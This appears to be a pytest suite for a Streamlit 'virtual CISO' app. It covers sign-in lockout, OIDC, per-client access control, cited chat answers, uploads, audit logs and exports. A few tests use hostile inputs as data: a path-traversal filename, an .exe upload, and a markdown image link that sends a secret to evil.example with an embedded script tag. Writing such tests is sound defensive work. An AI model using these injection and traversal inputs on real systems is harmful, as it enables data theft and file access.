"""The Streamlit app through streamlit.testing.v1.AppTest: sign-in, chat, documents, library, audit,
status."""

from __future__ import annotations

import io
import time
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from advisor.access.policy import local_operator
from advisor.access.users import UserStore
from advisor.db import open_database
from advisor.errors import AccessDenied
from advisor.factory import build_advisor
from advisor.jobs.queue import JobQueue
from advisor.models import Answer, Citation
from advisor.settings import Settings
from tests.app_support import PASSWORD, make_environment
from ui import documents
from ui.context import GOTO_KEY, PREFILL_KEY
from ui.export import answer_markdown, escape_md, to_docx, to_markdown

APP = str(Path(__file__).resolve().parents[1] / "app.py")


@pytest.fixture(scope="module")
def env(tmp_path_factory) -> tuple[Settings, dict[str, str]]:
    return make_environment(tmp_path_factory.mktemp("app"))


@pytest.fixture()
def settings(env, monkeypatch) -> Settings:
    settings, variables = env
    for key, value in variables.items():
        monkeypatch.setenv(key, value)
    return settings


def start(settings: Settings) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120)
    at.run()
    assert not at.exception
    return at


def sign_in(at: AppTest, username: str, password: str = PASSWORD) -> AppTest:
    at.text_input(key="sign_in_user").input(username)
    at.text_input(key="sign_in_password").input(password)
    at.button[0].click().run()
    assert not at.exception
    if [t.value for t in at.title][:1] == ["Portfolio"]:  # consultants land on the portfolio
        go(at, "chat")
    return at


def go(at: AppTest, page: str) -> AppTest:
    at.session_state[GOTO_KEY] = page
    at.run()
    assert not at.exception
    return at


def markdown_text(at: AppTest) -> str:
    return "\n".join(m.value for m in at.markdown)


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="chat_input").set_value(question).run()
    assert not at.exception
    return at


# -- sign-in -----------------------------------------------------------------------------------


def test_sign_in_is_required_and_a_wrong_password_is_refused(settings):
    at = start(settings)
    assert [t.value for t in at.title] == ["vciso"]
    assert not at.chat_input
    sign_in(at, "carol", "not-the-password")
    assert [e.value for e in at.error] == ["Wrong user name or password."]
    assert [t.value for t in at.title] == ["vciso"]
    at.session_state[GOTO_KEY] = "documents"  # a requested page waits until sign-in
    at.run()
    assert [t.value for t in at.title] == ["vciso"]
    assert not at.dataframe
    sign_in(at, "carol")
    assert [t.value for t in at.title] == ["Client documents"]
    at.button(key="sign_out").click().run()
    assert [t.value for t in at.title] == ["vciso"] and "vciso_user" not in at.session_state


@pytest.fixture()
def fresh(tmp_path, monkeypatch) -> UserStore:
    """A data dir of its own (throttling is kept in the database: locking carol here must not lock the
    module's shared environment)."""
    monkeypatch.setenv("VCISO_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("VCISO_EMBEDDING", "fake")
    users = UserStore(open_database(Settings(data_dir=tmp_path / "data", embedding="fake")))
    users.add("carol", PASSWORD, "consultant", ["acme"])
    return users


def test_repeated_wrong_passwords_lock_sign_in_and_a_reload_does_not_reset_it(fresh):
    at = AppTest.from_file(APP, default_timeout=120).run()
    for _ in range(5):
        sign_in(at, "carol", "not-the-password")
    sign_in(at, "carol")  # even the right password waits now
    assert [e.value for e in at.error] == ["Too many failed sign-ins. Try again in 5 minutes."]
    reloaded = AppTest.from_file(APP, default_timeout=120).run()  # a new browser session: nothing kept there
    sign_in(reloaded, "carol")
    assert [e.value for e in reloaded.error] == ["Too many failed sign-ins. Try again in 5 minutes."]
    assert [t.value for t in reloaded.title] == ["vciso"] and "vciso_user" not in reloaded.session_state
    events = [e.event for e in fresh.events.list(user="carol")]
    assert events.count("sign_in_failed") == 5 and events.count("sign_in_locked") == 2


def test_bootstrap_admin_must_set_a_new_password_first(tmp_path, monkeypatch):
    monkeypatch.setenv("VCISO_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("VCISO_EMBEDDING", "fake")
    users = UserStore(open_database(Settings(data_dir=tmp_path / "data", embedding="fake")))
    one_time = users.bootstrap_admin()
    at = sign_in(AppTest.from_file(APP, default_timeout=120).run(), "admin", one_time)
    assert [t.value for t in at.title] == ["Set a new password"]
    at.text_input(key="pw_current").input(one_time)
    at.text_input(key="pw_new").input("password1234")
    at.text_input(key="pw_again").input("password1234")
    at.button[0].click().run()
    assert at.error and [t.value for t in at.title] == ["Set a new password"]  # a common password is refused
    at.text_input(key="pw_new").input("a fresh admin passphrase")
    at.text_input(key="pw_again").input("a fresh admin passphrase")
    at.button[0].click().run()
    assert not at.exception
    assert [t.value for t in at.title] != ["Set a new password"] and not users.get(
        "admin"
    ).must_change_password


def test_an_idle_session_is_signed_out(settings):
    at = sign_in(start(settings), "carol")
    at.session_state["vciso_session_seen"] = "2020-01-01T00:00:00+00:00"
    at.run()
    assert [t.value for t in at.title] == ["vciso"] and "vciso_user" not in at.session_state
    assert any("expired" in w.value for w in at.warning)


def test_page_registry_skips_missing_modules_but_not_broken_ones(tmp_path, monkeypatch):
    from ui.pages import PAGES, load_module

    assert load_module("ui.no_such_page") is None
    assert load_module("ui.chat").TITLE == "Chat"
    (tmp_path / "vciso_broken_page.py").write_text("import no_such_dependency_xyz\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    with pytest.raises(ModuleNotFoundError):
        load_module("vciso_broken_page")
    assert {"chat", "documents", "library", "audit", "status"} <= {p.url_path for p in PAGES}


@pytest.mark.parametrize("username", ["admin", "carol", "eve"])
def test_every_registered_page_renders_for_each_role(settings, username):
    from ui.pages import PAGES, load_module

    at = sign_in(start(settings), username)
    for spec in PAGES:
        module = load_module(spec.module)
        if module is None:
            continue
        go(at, spec.url_path)
        assert [t.value for t in at.title][:1] != ["vciso"], spec.url_path
        assert not at.exception, (spec.url_path, at.exception)


# -- chat --------------------------------------------------------------------------------------


def test_chat_round_trip_shows_a_citation_card_and_records_feedback(settings):
    at = sign_in(start(settings), "carol")
    assert at.selectbox(key="chat_client").value == "acme"
    assert any("Extractive mode" in i.value for i in at.info)
    ask(at, "How long must passwords be for Acme accounts?")
    text = markdown_text(at)
    assert "14 characters" in text
    assert "**\\[1\\] Password\\_Policy.md**" in text  # the first source card names the policy
    assert "[\\[1\\]](#src-acme-0-1)" in text  # the marker links to its card
    assert ":blue-badge[Client: acme]" in text
    assert [d.label for d in at.download_button if d.label.startswith("Download")][
        0
    ] == "Download Password_Policy.md"

    adv = build_advisor(settings)
    record = adv.audit.list(user="carol", client="acme")[0]
    assert record.question == "How long must passwords be for Acme accounts?"
    assert record.citations[0]["source"] == "Password_Policy.md"

    at.feedback[0].set_value(1).run()
    at.text_input(key="fb-comment-acme-0").input("spot on").run()
    at.button(key="fb-send-acme-0").click().run()
    assert not at.exception
    updated = adv.audit.get(record.id)
    assert (updated.feedback, updated.feedback_comment) == ("up", "spot on")

    ask(at, "And how often are they rotated?")  # a follow-up keeps the conversation
    assert len(at.session_state["chat_history"]["acme"]) == 2
    assert "180 days" in markdown_text(at)


def test_consultant_never_sees_or_queries_an_unassigned_client(settings):
    at = start(settings)
    at.session_state["chat_client"] = "globex"  # a forged selection is dropped, not used
    sign_in(at, "carol")
    assert at.selectbox(key="chat_client").options == ["acme", "Built-in library only"]
    assert at.selectbox(key="chat_client").value == "acme"
    go(at, "documents")
    assert at.selectbox(key="documents_client").options == ["acme"]
    go(at, "audit")
    assert "globex" not in at.selectbox(key="audit_client").options

    adv = build_advisor(settings)
    carol = UserStore(open_database(settings)).get("carol")
    with pytest.raises(AccessDenied):
        adv.ask("How often are backups taken?", "globex", user=carol)
    with pytest.raises(AccessDenied):
        adv.chunk_text("globex", adv.sources("globex", user=local_operator())[0].chunk_ids[0], user=carol)
    with pytest.raises(AccessDenied):
        documents.ingest_uploads(adv, carol, "globex", [("x.md", b"# x\n\nsome text here")])
    from ui.context import Context
    from ui.sources import source_file

    ctx = Context(adv=adv, user=carol, users=UserStore(open_database(settings)))
    assert source_file(ctx, "globex", "Backup_Policy.md") is None  # never served to carol
    assert source_file(ctx, "acme", "Backup_Policy.md") is None  # not in acme's manifest
    assert source_file(ctx, "acme", "Password_Policy.md").name == "Password_Policy.md"


def test_llm_engine_streams_tokens_and_shows_the_verified_answer(settings, monkeypatch):
    from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    import ui.context

    reply = "Acme passwords must be at least 14 characters long [1]. The moon is made of cheese [1]."
    model = GenericFakeChatModel(messages=iter([AIMessage(content=reply)]))
    monkeypatch.setattr(ui.context, "build_advisor", lambda s: build_advisor(s, chat_model=model))
    monkeypatch.setenv("VCISO_LLM__ENGINE", "fake")  # a new settings key, so a new cached advisor
    at = sign_in(start(settings), "carol")
    assert not any("Extractive mode" in i.value for i in at.info)
    assert any(c.value.startswith("Engine: " + escape_md("llm:fake")) for c in at.caption)
    ask(at, "How long must passwords be for Acme accounts?")
    answer = at.session_state["chat_history"]["acme"][-1]["answer"]
    assert answer.backend == "llm:fake"
    assert answer.citations[0].source == "Password_Policy.md"
    assert "cheese" not in answer.text  # verification dropped the unsupported sentence
    assert any("removed" in c.value for c in at.caption)


def test_abstention_is_shown_as_such_with_what_was_searched(settings):
    at = sign_in(start(settings), "carol")
    ask(at, "What colour is the Acme headquarters carpet in the Zurich office?")
    answer = at.session_state["chat_history"]["acme"][-1]["answer"]
    assert answer.abstained and not answer.citations
    assert escape_md(answer.text) in [i.value for i in at.info]
    assert any(c.value.startswith("Searched:") and "client acme" in c.value for c in at.caption)
    assert not any(m.value == "**Sources**" for m in at.markdown)


OIDC_SECRETS = {
    "redirect_uri": "http://localhost:8501/oauth2callback",
    "cookie_secret": "x" * 32,
    "client_id": "vciso",
    "client_secret": "s",
    "server_metadata_url": "https://idp.example/.well-known",
}


def test_oidc_sign_in_maps_the_email_to_a_local_account(settings):
    UserStore(open_database(settings)).add("olga@acme.example", PASSWORD, "consultant", ["acme"])
    at = AppTest.from_file(APP, default_timeout=120)
    at.secrets["auth"] = OIDC_SECRETS
    at.user = {"is_logged_in": False}
    at.run()
    assert "Sign in with your identity provider" in [b.label for b in at.button]
    at = AppTest.from_file(APP, default_timeout=120)
    at.secrets["auth"] = OIDC_SECRETS
    at.user = {
        "is_logged_in": True,
        "email": "Olga@Acme.example",
        "email_verified": False,
        "iss": "https://idp.example",
        "sub": "olga-1",
    }
    at.run()
    assert [t.value for t in at.title] == ["vciso"]  # an unverified address opens no account
    assert any("not verified" in e.value for e in at.error)
    at = AppTest.from_file(APP, default_timeout=120)
    at.secrets["auth"] = OIDC_SECRETS
    at.user = {
        "is_logged_in": True,
        "email": "Olga@Acme.example",
        "email_verified": True,
        "iss": "https://idp.example",
        "sub": "olga-1",
    }
    at.run()
    assert not at.exception and [t.value for t in at.title] == ["Portfolio"]  # a consultant's home page
    go(at, "chat")
    assert at.selectbox(key="chat_client").options == ["acme", "Built-in library only"]
    at = AppTest.from_file(APP, default_timeout=120)
    at.secrets["auth"] = OIDC_SECRETS
    at.user = {
        "is_logged_in": True,
        "email": "olga@acme.example",
        "email_verified": True,
        "iss": "https://idp.example",
        "sub": "someone-else",
    }
    at.run()
    assert [t.value for t in at.title] == ["vciso"]  # the account is bound to issuer + sub now
    at = AppTest.from_file(APP, default_timeout=120)
    at.secrets["auth"] = OIDC_SECRETS
    at.user = {
        "is_logged_in": True,
        "email": "stranger@evil.example",
        "email_verified": True,
        "iss": "https://idp.example",
        "sub": "stranger-1",
    }
    at.run()
    assert [t.value for t in at.title] == ["vciso"]  # no local account: still signed out
    assert any("no vciso account" in e.value for e in at.error)


# -- documents ---------------------------------------------------------------------------------

GOOD_MD = (
    b"# Acme Encryption Standard\n\n## Laptops\nAll Acme laptops use full-disk encryption with XTS-AES-256.\n"
)
BROKEN_PDF = b"%PDF-1.7\n this is not really a pdf \x00\x01\x02"


def test_upload_one_good_and_one_broken_file_through_the_page(settings):
    at = go(sign_in(start(settings), "admin"), "documents")
    at.selectbox(key="documents_client").set_value("acme").run()
    at.file_uploader[0].set_value(
        [
            ("Encryption_Standard.md", GOOD_MD, "text/markdown"),
            ("Broken_Audit.pdf", BROKEN_PDF, "application/pdf"),
        ]
    )
    at.button[[b.label for b in at.button].index("Upload and index")].click().run()
    assert not at.exception
    queue = JobQueue.from_settings(settings)
    job = queue.list(client="acme")[0]  # the upload is a job, run by the app's embedded worker
    assert [f.name for f in job.files] == ["Encryption_Standard.md", "Broken_Audit.pdf"]
    deadline = time.monotonic() + 60
    while queue.get(job.id).active and time.monotonic() < deadline:
        time.sleep(0.2)
    assert queue.get(job.id).status == "succeeded"
    at.run()  # a reload shows the finished job from the database
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and errors[0].startswith("Broken_Audit.pdf: ")
    assert any("Added: Encryption_Standard.md" in s.value for s in at.success)
    table = at.dataframe[0].value
    assert "Encryption_Standard.md" in list(table["Document"])
    assert "Broken_Audit.pdf" not in list(table["Document"])
    uploads = settings.data_dir / "uploads" / "acme"
    assert sorted(p.name for p in uploads.iterdir()) == [
        "Encryption_Standard.md"
    ]  # the broken file is not kept

    go(at, "chat")
    ask(at, "Which encryption do Acme laptops use?")
    assert "XTS\\-AES\\-256" in markdown_text(at)


def test_upload_handler_enforces_limits_and_sanitises_names(settings):
    adv = build_advisor(settings.model_copy(update={"max_file_mb": 0.001}))
    admin = UserStore(open_database(settings)).get("admin")
    report = documents.ingest_uploads(
        adv,
        admin,
        "acme",
        [
            ("../../etc/Cron Notes?.md", b"# Cron\n\nBackups of Acme run at 02:00 every night.\n"),
            ("payload.exe", b"MZ..."),
            ("big.txt", b"x" * 2000),
            ("empty.md", b""),
        ],
    )
    assert [Path(p).name for p in report.added] == ["Cron_Notes_.md"]
    reasons = {f["path"]: f["error"] for f in report.failed}
    assert reasons["payload.exe"].startswith("unsupported file type .exe")
    assert "larger than" in reasons["big.txt"]
    assert reasons["empty.md"] == "the file is empty"
    saved = Path(report.added[0])
    assert saved.parent == settings.data_dir / "uploads" / "acme"
    assert (
        documents.sanitise_filename("C:\\Users\\x\\..\\Risk Register (v2).xlsx") == "Risk_Register_v2_.xlsx"
    )
    with pytest.raises(documents.UploadRejected):
        documents.sanitise_filename("..")
    documents.remove_document(adv, admin, "acme", "Cron_Notes_.md")
    assert not saved.exists()
    assert "Cron_Notes_.md" not in [r.source for r in adv.sources("acme", user=local_operator())]


def test_executive_may_not_remove_documents(settings):
    adv = build_advisor(settings)
    eve = UserStore(open_database(settings)).get("eve")
    with pytest.raises(AccessDenied):
        documents.remove_document(adv, eve, "globex", "Backup_Policy.md")
    assert "Backup_Policy.md" in [r.source for r in adv.sources("globex", user=local_operator())]
    at = go(sign_in(start(settings), "eve"), "documents")
    assert any("may not remove" in c.value for c in at.caption)
    go(at, "chat")
    assert at.segmented_control(key="chat_audience").value == "executive"


# -- library, audit, status -------------------------------------------------------------------


def test_library_finds_a_clause_by_id_and_hands_it_to_chat(settings):
    at = go(sign_in(start(settings), "carol"), "library")
    at.text_input(key="library_query").input("AC-2(3)").run()
    choice = next(s for s in at.selectbox if s.label.endswith("clause(s)"))
    assert choice.value == "nist-800-53|AC-2(3)"
    assert "Disable Accounts" in at.subheader[0].value
    assert any("AC Access Control" in m.value for m in at.markdown)  # the hierarchy
    at.button(key="library_ask").click().run()
    assert [t.value for t in at.title] == ["Ask the virtual CISO"]
    assert "AC-2(3)" in at.session_state[PREFILL_KEY]
    at.button(key="prefill_ask").click().run()
    assert not at.exception
    assert PREFILL_KEY not in at.session_state
    assert at.session_state["chat_history"]["acme"][-1]["question"].startswith("What does NIST SP 800-53")


def test_audit_log_shows_only_visible_clients_and_opens_a_record(settings):
    adv = build_advisor(settings)
    store = UserStore(open_database(settings))
    adv.ask("How often does Globex back up its database?", "globex", user=store.get("eve"))
    adv.ask("How long must passwords be?", "acme", user=store.get("admin"))
    at = go(sign_in(start(settings), "carol"), "audit")
    clients = set(at.dataframe[0].value["Client"])
    assert clients == {"acme"}
    assert "**Question**" in markdown_text(at) and "**Citations**" in markdown_text(at)
    at = go(sign_in(start(settings), "admin"), "audit")
    assert {"acme", "globex"} <= set(at.dataframe[0].value["Client"])


def events_table(at: AppTest):
    return next(d.value for d in at.dataframe if "Event" in d.value.columns)


def test_audit_log_filters_security_events_by_type(settings):
    adv = build_advisor(settings)
    store = UserStore(open_database(settings))
    adv.exported("answer DOCX", "globex", user=store.get("eve"), obj="globex answer")
    adv.exported("answer DOCX", "acme", user=store.get("admin"), obj="acme answer")
    at = go(sign_in(start(settings), "carol"), "audit")
    at.selectbox(key="audit_event").set_value("export").run()
    table = events_table(at)
    assert set(table["Event"]) == {"export"} and set(table["Object"]) == {"acme answer"}  # not globex's
    at.selectbox(key="audit_event").set_value("sign_in").run()
    assert set(events_table(at)["User"]) == {"carol"}  # only her own sign-ins
    at = go(sign_in(start(settings), "admin"), "audit")
    at.selectbox(key="audit_event").set_value("export").run()
    assert {"acme answer", "globex answer"} <= set(events_table(at)["Object"])


def test_status_page_shows_configuration_without_secrets_and_lets_admins_add_users(settings, monkeypatch):
    monkeypatch.setenv("VCISO_LLM__API_KEY", "sk-very-secret-key")
    at = go(sign_in(start(settings), "admin"), "status")
    config = at.dataframe[0].value
    values = dict(zip(config["Setting"], config["Value"]))
    assert values["Answer engine"] == "extractive"
    assert values["LLM API key"] == "set"
    assert "sk-very-secret-key" not in str(at)
    at.button(key="status_llm").click().run()
    assert any("needs no LLM" in s.value for s in at.success)
    at.button(key="status_store").click().run()
    assert any("store answered" in s.value for s in at.success)
    at.text_input(key="new_user_name").input("dan")
    at.text_input(key="new_user_pw").input("another-long-password")
    at.multiselect(key="new_user_clients").set_value(["globex"])
    at.button[[b.label for b in at.button].index("Add user")].click().run()
    assert not at.exception
    assert UserStore(open_database(settings)).get("dan").clients == ("globex",)
    carol = go(sign_in(start(settings), "carol"), "status")
    assert not carol.multiselect  # no user management for consultants


# -- export (pure functions) -------------------------------------------------------------------


def _answer() -> Answer:
    cite = Citation(
        n=1,
        chunk_id="c1",
        source="Password_Policy.md",
        title="Acme Password Policy",
        page=2,
        section="2. Password length",
        client="acme",
        quote="Passwords must be at least 14 characters.",
    )
    return Answer(
        text="Passwords need 14 characters [1].",
        citations=(cite,),
        abstained=False,
        audience="consultant",
        backend="extractive",
        client="acme",
        question="How long?",
    )


def test_markdown_export_carries_markers_and_sources():
    md = to_markdown(_answer())
    assert "Passwords need 14 characters \\[1\\]." in md
    assert (
        "**\\[1\\] Password\\_Policy.md \\(Acme Password Policy\\) — p. 2 · § 2. Password length** — "
        "Client\\: acme" in md
    )
    assert "> Passwords must be at least 14 characters." in md


def test_docx_export_is_a_word_document_with_the_sources():
    from docx import Document

    doc = Document(io.BytesIO(to_docx(_answer())))
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "Passwords need 14 characters [1]." in text
    assert "[1] Password_Policy.md (Acme Password Policy) — p. 2 · § 2. Password length" in text
    assert "Passwords must be at least 14 characters." in text


def test_document_text_cannot_inject_markdown_links_or_html():
    hostile = "See ![x](http://evil.example/?q=secret) <script>alert(1)</script> [1]"
    rendered = answer_markdown(hostile, anchor_prefix="src-a")
    assert "](http" not in rendered.replace("\\]\\(", "")
    assert "<script>" not in rendered
    assert rendered.endswith("[\\[1\\]](#src-a-1)")
    assert escape_md("a_b*c") == "a\\_b\\*c"
    assert answer_markdown("Lead [1].\n- first [2]\n- x_y") == "Lead \\[1\\].\n- first \\[2\\]\n- x\\_y"
